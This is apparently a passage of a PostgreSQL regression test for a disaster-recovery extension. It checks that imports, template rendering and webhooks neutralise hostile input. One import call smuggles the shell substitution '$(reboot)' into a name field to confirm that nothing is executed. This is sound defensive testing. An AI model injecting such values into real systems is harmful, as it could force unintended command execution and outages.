\echo :SQLSTATE
SELECT dr_import_pgbackrest('[{"name": "$(reboot)", "backup": []}]');
\echo :SQLSTATE
RESET ROLE;

-- Templates fill a placeholder once: a value that looks like a
-- placeholder stays text.
SELECT dr_render('{{impact}} | {{start_time}} | {{nothing}}',
                 '{"impact": "{{start_time}} {{details}}", "start_time": "T", "details": "D"}') AS rendered;
SELECT dr_webhook_add('walk-tpl', 'http://127.0.0.1:9/tpl', 'walk-secret-0123456789', ARRAY['DR_INITIATED']);
SELECT dr_declare(1, 'walk {{start_time}} {{details}}') AS tpl_inc \gset
SELECT body->>'subject' AS subject,
       strpos(body->>'text', 'Impact: walk {{start_time}} {{details}}') > 0 AS impact_verbatim
  FROM dr_outbox WHERE channel = 'walk-tpl';
SELECT rto_state FROM dr_resolve(:tpl_inc);
SELECT dr_webhook_remove('walk-tpl');

-- Nothing was dropped or run on the way.
SELECT to_regclass('dr_event_log') IS NOT NULL AS event_log_there,
       (SELECT count(*) FROM dr_event_log WHERE event_type = 'WALK_HOSTILE') AS hostile_events;

DELETE FROM dr_artifacts WHERE sha256 = repeat('b', 64);
DROP ROLE regress_walk_nobody, regress_walk_monitor, regress_walk_operator, regress_walk_admin;
